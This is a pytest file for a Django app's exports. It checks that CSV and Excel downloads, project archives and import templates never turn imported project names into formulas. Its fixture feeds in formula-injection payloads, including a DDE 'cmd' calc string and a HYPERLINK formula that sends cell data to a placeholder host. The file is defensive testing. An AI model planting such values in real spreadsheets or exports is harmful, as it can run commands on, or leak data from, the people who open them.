"""No text that came in becomes a formula in anything that goes out: tables, a project's file, templates."""

import csv
import io
import random
import re
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from guatu.library.models import Project
from tests.imports.conftest import Desk
from tests.library.conftest import at_day
from tests.support.cast import Cast, cast
from tests.trials.formats import as_csv

__all__ = ["cast"]

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/"&A1,"点此")', "SUM(1+1)*cmd", "1+1", "2", '"=1"')
TEXTS = (
    "项目名称",
    "建设规模及主要内容",
    "建设地点",
    "年度目标",
    "项目业主",
    "责任单位",
    "分包领导",
    "备注",
    "资金来源",
)
NUMBER = re.compile(r"-?[\d,]+(?:\.\d+)?%?")
TABLES = ("library:projects", "dispatch:rows")


@pytest.fixture
def hostile(cast: Cast, tmp_path, seed: int) -> Iterator[Client]:
    """The office's browser, in a district whose list is made of texts that begin as formulas do."""
    chance = random.Random(seed)
    rows = [["序号", *TEXTS, "总投资（万元）", "2019年计划投资（万元）"]]
    for number, start in enumerate(STARTS, 1):
        texts = [f"{start}{chance.choice(PAYLOADS)}{number}" for _ in TEXTS]
        texts[0] = f"{start}SUM({number},1)项目"
        rows.append([number, *texts, 5000 + number, 1000])
    # A row of a hostile class stands above them.
    rows.insert(1, ['一、=HYPERLINK("x")类'])
    with at_day("2019-04-15"):
        answer = Desk(tmp_path, cast.actor("office")).plan(as_csv(rows, "utf-8"))
        assert (answer["errors"], answer["created"]) == ([], len(STARTS))
        yield cast.client("office")


def body(response: Any) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def harmless_csv(data: bytes) -> int:
    """How many cells there are; none may begin as a formula does, numbers apart."""
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    bad = [cell for cell in cells if cell.startswith(STARTS) and not NUMBER.fullmatch(cell)]
    assert bad == []
    return len(cells)


def harmless_workbook(data: bytes) -> str:
    """Its texts; no cell may be a formula, a link or a call outside."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/sheet")]
    assert sheets
    for text in sheets:
        assert re.search(r"<f[ >]|<hyperlink|t=\"str\"", text) is None
    assert not [name for name in parts if "externalLink" in name or "vba" in name.lower()]
    return parts.get("xl/sharedStrings.xml", "") + "".join(sheets)


@pytest.mark.parametrize("name", TABLES)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_text_of_a_table_becomes_a_formula(hostile, name, kind):
    asked = {"indicator": "planned_investment", "as_of": "2019-03-31"} if name == "dispatch:rows" else {}
    response = hostile.get(reverse(name), {**asked, "export": kind})
    assert f".{kind}" in response["Content-Disposition"]
    data = body(response)
    if kind == "csv":
        assert harmless_csv(data) > len(STARTS)
    else:
        harmless_workbook(data)


def test_names_come_out_as_they_went_in(hostile):
    """Nothing is lost by it: the workbook has the very text, the CSV has it behind an apostrophe."""
    texts = harmless_workbook(body(hostile.get(reverse("library:projects"), {"export": "xlsx"})))
    text = body(hostile.get(reverse("library:projects"), {"export": "csv"})).decode("utf-8-sig")
    for project in Project.objects.all():
        assert project.name in texts
        assert project.name in text


def test_no_text_of_a_projects_file_becomes_a_formula(hostile):
    for project in Project.objects.all():
        data = body(hostile.get(reverse("library:file", args=[project.public_id])))
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            assert archive.testzip() is None
            for name in archive.namelist():
                assert re.fullmatch(r"\d\d [^/\\:*?\"<>|\x00-\x1f]+\.(?:csv|txt)", name), name
                if name.endswith(".csv"):
                    assert harmless_csv(archive.read(name)) > 1


@pytest.mark.parametrize("kind", ["plan", "progress"])
def test_no_template_holds_a_formula(hostile, kind):
    harmless_workbook(body(hostile.get(reverse("reporting:import_template", args=[kind]))))
